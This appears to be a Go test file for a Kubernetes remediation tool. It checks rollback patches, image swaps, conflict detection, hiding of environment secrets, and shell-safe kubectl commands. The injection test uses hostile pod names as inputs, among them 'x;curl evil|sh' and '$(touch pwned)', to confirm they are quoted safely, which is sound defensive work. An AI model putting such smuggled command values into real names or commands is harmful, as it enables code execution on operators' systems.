@@ -1,0 +1,249 @@
+// Copyright 2026 The Pullmedic Authors
+// SPDX-License-Identifier: Apache-2.0
+
+package remedy_test
+
+import (
+	"encoding/json"
+	"fmt"
+	"math/rand/v2"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	corev1 "k8s.io/api/core/v1"
+	"k8s.io/apimachinery/pkg/api/resource"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/util/intstr"
+
+	"github.com/pullmedic/pullmedic/catalog"
+	"github.com/pullmedic/pullmedic/diagnosis"
+	"github.com/pullmedic/pullmedic/evidence"
+	"github.com/pullmedic/pullmedic/internal/remedy"
+)
+
+// Whatever two templates are, going back makes exactly the earlier one, and
+// taking that back the later one, byte for byte.
+func TestGoingBackMakesExactlyTheEarlierTemplate(t *testing.T) {
+	random := rand.New(rand.NewPCG(17, 18))
+	changed := 0
+	for i := range 200 {
+		now, before := randomTemplate(random), randomTemplate(random)
+		if i%2 == 0 { // mostly alike, as revisions are
+			before = *now.DeepCopy()
+			before.Spec.Containers[0].Image = randomImage(random)
+			before.Spec.NodeSelector = randomMap(random)
+			before.Annotations = randomMap(random)
+		}
+		before.Labels["pod-template-hash"] = "6f9c"
+		for _, kind := range []string{"Deployment", "StatefulSet", "DaemonSet"} {
+			k := remedy.Case{Target: target(kind, now, revision(before, 0)), Diagnoses: []diagnosis.Diagnosis{diagnose(t, catalog.TagNotFound, "", "app", now.Spec.Containers[0].Image)}}
+			r := plan(t, k, remedy.Options{Rollback: true})[0] // plan applies and undoes it
+			if len(r.Changes) == 0 {
+				continue
+			}
+			changed++
+			wanted := *before.DeepCopy()
+			delete(wanted.Labels, "pod-template-hash")
+			var got struct {
+				Spec struct {
+					Template json.RawMessage `json:"template"`
+				} `json:"spec"`
+			}
+			if err := json.Unmarshal(apply(t, r.Changes[0], objectOf(t, k, r.Changes[0])), &got); err != nil {
+				t.Fatal(err)
+			}
+			if want := compact(t, wanted); string(compact(t, got.Spec.Template)) != string(want) {
+				t.Fatalf("the template is\n%s\nwant\n%s", got.Spec.Template, want)
+			}
+		}
+	}
+	if changed < 400 {
+		t.Errorf("only %d templates were changed", changed)
+	}
+}
+
+// Another image changes that image and nothing else, in whatever template.
+func TestAnotherImageChangesTheImageAlone(t *testing.T) {
+	random := rand.New(rand.NewPCG(19, 20))
+	for range 300 {
+		x := randomTemplate(random)
+		at := random.IntN(len(x.Spec.Containers))
+		failing := x.Spec.Containers[at]
+		const to = "registry.example/other/image:1"
+		for _, kind := range []string{"Deployment", "CronJob", "Pod"} {
+			k := remedy.Case{Target: target(kind, x), Diagnoses: []diagnosis.Diagnosis{diagnose(t, catalog.TagNotFound, "", failing.Name, failing.Image)}}
+			r := plan(t, k, remedy.Options{To: to})[0]
+			if len(r.Changes) != 1 {
+				t.Fatalf("%s: %s", kind, told(r))
+			}
+			wanted := k
+			wanted.Target.Template = *x.DeepCopy()
+			wanted.Target.Template.Spec.Containers[at].Image = to
+			if got, want := apply(t, r.Changes[0], objectOf(t, k, r.Changes[0])), objectOf(t, wanted, r.Changes[0]); string(got) != string(want) {
+				t.Fatalf("%s is\n%s\nwant\n%s", kind, got, want)
+			}
+		}
+	}
+}
+
+// A patch does not apply to an object that somebody changed meanwhile.
+func TestAChangedObjectIsNotPatched(t *testing.T) {
+	k := remedy.Case{Target: target("Deployment", template(wrong)), Diagnoses: []diagnosis.Diagnosis{diagnose(t, catalog.TagNotFound, "", "app", wrong)}}
+	c := plan(t, k, remedy.Options{To: good})[0].Changes[0]
+	object := string(objectOf(t, k, c))
+	for what, edited := range map[string]string{
+		"the image":      strings.Replace(object, wrong, good, 1),
+		"the generation": strings.Replace(object, `"generation":4`, `"generation":5`, 1),
+		"the object":     strings.Replace(object, "uid-api", "uid-other", 1),
+		"the containers": strings.Replace(object, `"name":"app"`, `"name":"side"`, 1),
+	} {
+		if edited == object {
+			t.Fatalf("%s was not changed", what)
+		}
+		text, err := c.Patch()
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got, err := applyText(text, edited); err == nil {
+			t.Errorf("%s was changed meanwhile, and the patch made it %s", what, got)
+		}
+	}
+}
+
+// The values of an environment are shown to nobody: people keep passwords there.
+func TestTheEnvironmentIsNotShown(t *testing.T) {
+	const canary = "hunter2-canary"
+	before := env(template(good), canary)
+	before.Spec.InitContainers = []corev1.Container{{Name: "prepare", Image: good, Args: []string{"--password=" + canary}}}
+	k := remedy.Case{Target: target("Deployment", env(template(wrong), "b"), revision(before, 1)), Diagnoses: []diagnosis.Diagnosis{diagnose(t, catalog.TagNotFound, "", "app", wrong)}}
+	all := plan(t, k, remedy.Options{})
+	found := false
+	for _, r := range all {
+		for _, c := range r.Changes {
+			if text := fmt.Sprintf("%v %+v %#v %s", c, c, c, c); strings.Contains(text, canary) {
+				t.Errorf("%s shows it: %s", r.ID, text)
+			}
+			text, err := c.Patch()
+			found = found || err == nil && strings.Contains(string(text), canary)
+		}
+		if text := fmt.Sprint(r.Title, r.Because, r.Risks); strings.Contains(text, canary) {
+			t.Errorf("%s says it: %s", r.ID, text)
+		}
+	}
+	if !found {
+		t.Error("no patch has it, so that nothing was tested")
+	}
+}
+
+// What is handed over reaches kubectl as it was meant, whatever the names are.
+func TestPrintedCommandsKeepHostileValues(t *testing.T) {
+	bin := t.TempDir()
+	log := filepath.Join(bin, "log")
+	const recorder = "#!/bin/sh\nfor a in \"$@\"; do printf '%s\\n' \"$a\" >>\"$LOG\"; done\ncat >/dev/null\n"
+	if err := os.WriteFile(filepath.Join(bin, "kubectl"), []byte(recorder), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	for _, name := range []string{"x;curl evil|sh", "$(touch pwned)", "`touch pwned`", "it's", `"quoted"`, "a&b>c", "--force", "it's $HOME"} {
+		x := template(good)
+		x.Spec.Volumes = []corev1.Volume{{Name: "model", VolumeSource: corev1.VolumeSource{Image: &corev1.ImageVolumeSource{Reference: wrong}}}}
+		k := remedy.Case{Target: target("Pod", x), Diagnoses: []diagnosis.Diagnosis{diagnose(t, catalog.TagNotFound, evidence.ImageVolume, "model", wrong)}}
+		k.Target.Name = name
+		k.Diagnoses[0].Pull.Pod = name
+		debug := k
+		debug.Diagnoses = []diagnosis.Diagnosis{diagnose(t, catalog.TagNotFound, evidence.EphemeralContainer, "debug", wrong)}
+		debug.Diagnoses[0].Pull.Pod = name
+		for _, k := range []remedy.Case{k, debug} {
+			r := plan(t, k, remedy.Options{To: good})[0]
+			if len(r.Steps) != 1 || len(r.Steps[0].Commands) != 1 {
+				t.Fatalf("%q: %s", name, told(r))
+			}
+			run := exec.CommandContext(t.Context(), "sh", "-c", r.Steps[0].Commands[0])
+			run.Env, run.Dir = []string{"PATH=" + bin + ":/bin:/usr/bin", "LOG=" + log}, bin
+			if out, err := run.CombinedOutput(); err != nil {
+				t.Fatalf("%s: %v\n%s", r.Steps[0].Commands[0], err, out)
+			}
+			text, err := os.ReadFile(log)
+			if err != nil || !strings.Contains("\n"+string(text), "\n"+name+"\n") || !strings.Contains(string(text), good) {
+				t.Errorf("%s gave kubectl %q, %v", r.Steps[0].Commands[0], text, err)
+			}
+			if _, err := os.Stat(filepath.Join(bin, "pwned")); err == nil {
+				t.Fatalf("%s ran something else", r.Steps[0].Commands[0])
+			}
+			if err := os.Remove(log); err != nil {
+				t.Fatal(err)
+			}
+		}
+	}
+	for _, name := range []string{"a\nb", "a\x1b[2Jb", "a\u202eb"} { // a terminal would not show these
+		k := remedy.Case{Target: target("Pod", template(good)), Diagnoses: []diagnosis.Diagnosis{diagnose(t, catalog.TagNotFound, evidence.EphemeralContainer, "debug", wrong)}}
+		k.Diagnoses[0].Pull.Pod = name
+		for _, r := range plan(t, k, remedy.Options{To: good}) {
+			if len(r.Steps) > 0 {
+				t.Errorf("%q went into %q", name, r.Steps[0].Commands)
+			}
+		}
+	}
+}
+
+func randomImage(r *rand.Rand) string {
+	return fmt.Sprintf("registry.example/acme/app%d:%d", r.IntN(3), r.IntN(100))
+}
+
+func randomMap(r *rand.Rand) map[string]string {
+	if r.IntN(3) == 0 {
+		return nil
+	}
+	m := map[string]string{}
+	for range r.IntN(4) {
+		m[[]string{"a/b", "c~d", "kubernetes.io/arch", "plain", `q"uote`}[r.IntN(5)]] = fmt.Sprint(r.IntN(5))
+	}
+	return m
+}
+
+func randomContainer(r *rand.Rand, name string) corev1.Container {
+	c := corev1.Container{Name: name, Image: randomImage(r), ImagePullPolicy: corev1.PullAlways}
+	for i := range r.IntN(3) {
+		c.Env = append(c.Env, corev1.EnvVar{Name: fmt.Sprint("V", i), Value: fmt.Sprint(r.IntN(3))})
+		c.Ports = append(c.Ports, corev1.ContainerPort{ContainerPort: int32(8080 + r.IntN(3))})
+	}
+	if r.IntN(2) == 0 {
+		c.Resources.Limits = corev1.ResourceList{corev1.ResourceCPU: resource.MustParse(fmt.Sprint(r.IntN(5)+1, "00m"))}
+		c.ReadinessProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{HTTPGet: &corev1.HTTPGetAction{Path: "/<&>", Port: intstr.FromInt32(8080)}}}
+	}
+	if r.IntN(2) == 0 {
+		user := int64(1)<<53 + int64(r.IntN(3)) // more than a float keeps
+		c.SecurityContext = &corev1.SecurityContext{RunAsUser: &user}
+	}
+	return c
+}
+
+func randomTemplate(r *rand.Rand) corev1.PodTemplateSpec {
+	t := corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{"app": "api"}, Annotations: randomMap(r)}}
+	for i, name := range []string{"app", "side", "third"}[:1+r.IntN(3)] {
+		t.Spec.Containers = append(t.Spec.Containers, randomContainer(r, name))
+		if r.IntN(2) == 0 {
+			t.Spec.InitContainers = append(t.Spec.InitContainers, randomContainer(r, fmt.Sprint("init", i)))
+		}
+	}
+	for i := range r.IntN(3) {
+		v := corev1.Volume{Name: fmt.Sprint("v", i)}
+		switch r.IntN(3) {
+		case 0:
+			v.EmptyDir = &corev1.EmptyDirVolumeSource{}
+		case 1:
+			v.Image = &corev1.ImageVolumeSource{Reference: randomImage(r)}
+		default:
+			v.ConfigMap = &corev1.ConfigMapVolumeSource{LocalObjectReference: corev1.LocalObjectReference{Name: "c"}}
+		}
+		t.Spec.Volumes = append(t.Spec.Volumes, v)
+	}
+	t.Spec.NodeSelector = randomMap(r)
+	if r.IntN(2) == 0 {
+		t.Spec.ServiceAccountName = fmt.Sprint("account", r.IntN(2))
+		t.Spec.ImagePullSecrets = []corev1.LocalObjectReference{{Name: fmt.Sprint("hub", r.IntN(2))}}
+	}
+	return t
+}
